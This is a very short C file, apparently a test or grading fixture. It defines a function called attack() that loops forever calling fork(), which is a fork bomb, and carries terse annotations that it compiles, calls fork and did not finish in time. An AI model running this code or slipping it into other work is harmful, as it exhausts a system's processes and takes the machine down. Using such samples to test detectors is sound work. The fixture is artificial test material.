// Starts as many processes as it can; they do the same.
// rung: compiles
// says: it calls fork: this exercise needs no other processes
// anyway: it did not end within
#include <unistd.h>

void attack() {
  for (;;) fork();
}
